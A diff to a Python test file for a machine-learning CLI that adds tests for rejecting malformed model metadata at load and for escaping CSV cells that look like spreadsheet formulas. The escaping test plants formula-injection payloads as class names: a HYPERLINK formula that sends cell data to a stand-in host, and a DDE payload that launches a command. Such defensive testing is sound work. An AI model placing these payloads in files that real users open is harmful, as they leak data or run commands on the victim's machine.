@@ -158,3 +158,60 @@ def test_predict_with_a_model_trained_in_python(cli_data, tmp_path, capsys):
     assert rows[0] == ["class", "probability"] and len(rows) == 31
     truth = [row[-1] for row in read_csv(cli_data["iris_test"])[1:]]
     assert np.mean([r[0] == t for r, t in zip(rows[1:], truth)]) >= 0.8
+
+
+@pytest.mark.parametrize("case", ["huge_image_size", "image_size_not_the_input",
+                                  "vocabulary_string", "class_names_string"])
+def test_predict_refuses_a_bad_user_section_at_load(cli_data, iris_model, image_model, tmp_path,
+                                                    capsys, case):
+    """What fit stored is checked when the model loads: never a 120 GB image allocation, a
+    vocabulary iterated per character or a cast error in the middle of predict."""
+    source = ["--csv", cli_data["iris_new"]]
+    if case in ("huge_image_size", "image_size_not_the_input"):
+        model = ff.models.load_model(str(image_model))
+        size = [100000, 100000] if case == "huge_image_size" else [32, 32]
+        model._user_data["forgeflow_cli"]["image_size"] = size
+        source = ["--images", cli_data["images_test"]]
+        expected = ("user data.forgeflow_cli.image_size[0]: expected an integer from 1 to 8192, "
+                    "found an integer 100000" if case == "huge_image_size" else
+                    "user data.forgeflow_cli.image_size: 32x32 grayscale images are (32, 32, 1), "
+                    "but the model's input is [(28, 28, 1)]")
+    elif case == "vocabulary_string":
+        model = ff.models.load_model(str(iris_model))
+        model._data_schema["label_vocabulary"] = "setosa"
+        expected = ("user data.data_schema.label_vocabulary: expected a list of strings or null, "
+                    "found a string 'setosa'")
+    else:
+        model = ff.models.load_model(str(iris_model))
+        model._user_data["forgeflow_cli"]["class_names"] = "abc"
+        expected = ("user data.forgeflow_cli.class_names: expected a list of strings or null, "
+                    "found a string 'abc'")
+    model.save(tmp_path / "bad.ff")
+    code, out, err = run_main(capsys, "predict", tmp_path / "bad.ff", *source)
+    assert code == 1 and out == ""
+    lines = err.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("forgeflow: error: cannot load the model: "), err
+    assert expected in lines[0], lines[0]
+
+
+def test_predict_defuses_class_names_a_spreadsheet_would_run(cli_data, iris_model, tmp_path,
+                                                             capsys):
+    model = ff.models.load_model(str(iris_model))
+    names = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2"]
+    model._user_data["forgeflow_cli"]["class_names"] = names
+    model.save(tmp_path / "m.ff")
+    out = tmp_path / "p.csv"
+    code, _, err = run_main(capsys, "predict", tmp_path / "m.ff", "--csv", cli_data["iris_new"],
+                            "--output", out)
+    assert code == 0, err
+    classes = {row[0] for row in read_csv(out)[1:]}
+    assert len(classes) >= 2 and classes <= {"'" + names[0], "'" + names[1], "-2"}
+
+
+def test_text_cells_that_look_like_formulas_get_a_quote():
+    from forgeflow.cli.predict import _text
+    for cell in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "-", "+", "=", "-1-1", "1e5=",
+                 "--5"):
+        assert _text(cell) == ("'" + cell if cell[0] in "=+-@\t\r" else cell), cell
+    for cell in ("-2", "+7", "-1.5e3", ".5", "-.5", "3.", "cat", "", "a=b", " =x", "'=x"):
+        assert _text(cell) == cell, cell
